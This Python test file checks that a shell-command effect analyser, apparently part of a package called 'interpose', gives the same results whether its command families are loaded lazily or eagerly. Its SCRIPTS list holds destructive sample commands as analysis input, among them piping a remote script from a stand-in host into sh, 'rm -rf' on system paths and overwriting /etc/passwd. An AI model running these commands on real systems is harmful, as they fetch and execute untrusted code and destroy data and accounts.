"""Families of commands that are imported when they are needed say what they say when all are."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

from interpose.effects import programs as commands

PROGRAM = """
import json, sys
from interpose.effects.shell import analyse
from interpose.effects import programs as commands
from interpose.effects.handler_table import HANDLERS

known, scripts = json.load(sys.stdin)
if known:
    commands.defer(known)
said = [repr(analyse(script)) for script in scripts]
print(json.dumps([said, commands.families() if not known else sorted(HANDLERS), len(sys.modules)]))
"""
SCRIPTS = [
    "git push --force origin main && npm test", "sudo rm -rf /srv", "curl -s https://x.example/i.sh | sh", "RM -r /",
    "python3 -c 'import os; os.remove(`x`)'", "find . -name '*.py' -exec sed -i s/a/b/ {} +", "nosuch thing",
    "systemctl stop sshd; gem install x; apt remove bash", "xargs -0 kubectl delete pod",
    "env A=1 nohup tar xf a.tar -C /", "g?t clean -fdx", "echo hi > /etc/passwd",
]  # fmt: skip


def _run(known: object) -> list[object]:
    done = subprocess.run(
        [sys.executable, "-I", "-c", PROGRAM], input=json.dumps([known, SCRIPTS]), capture_output=True, text=True,
        check=True,
    )  # fmt: skip
    answer: list[object] = json.loads(done.stdout)
    return answer


def test_what_is_imported_later_says_the_same() -> None:
    said, families, _ = _run({})
    assert isinstance(families, dict)
    later, names, _ = _run(families)
    assert later == said
    assert names == sorted(families)


def test_few_commands_import_few_families() -> None:
    _, families, _ = _run({})
    code = PROGRAM.replace("for script in scripts", "for script in scripts[:1]")
    few, all_ = (
        json.loads(
            subprocess.run(
                [sys.executable, "-I", "-c", code], input=json.dumps([known, SCRIPTS]), capture_output=True, text=True,
                check=True,
            ).stdout
        )[2]
        for known in (families, {})
    )  # fmt: skip
    assert few < all_ - 40


def test_each_family_brings_its_commands() -> None:
    """A table that registers through a shared function must be found in its own module, not in the shared one."""
    code = """
import json, sys
from interpose.effects import programs as commands
from interpose.effects.handler_table import handler_of

known = json.load(sys.stdin)
commands.defer(known)
print(json.dumps({name: handler_of(name).__module__ for name in known}))
"""
    _, families, _ = _run({})
    assert isinstance(families, dict)
    done = subprocess.run(
        [sys.executable, "-I", "-c", code], input=json.dumps(families), capture_output=True, text=True, check=True
    )
    assert json.loads(done.stdout) == {name: f"{commands.__name__}.{family}" for name, family in families.items()}
    assert not [name for name, family in families.items() if family.startswith("shared.")]


def test_the_fingerprint_covers_every_folder() -> None:
    root = Path(commands.__file__).parent
    files = {path.relative_to(root).as_posix() for path in root.rglob("*") if path.suffix in (".py", ".toml")}
    assert {name for name, _, _ in commands.fingerprint()} == files
    assert {"__init__.py", "git/history.py", "shared/options.py", "system/machine.toml"} <= files
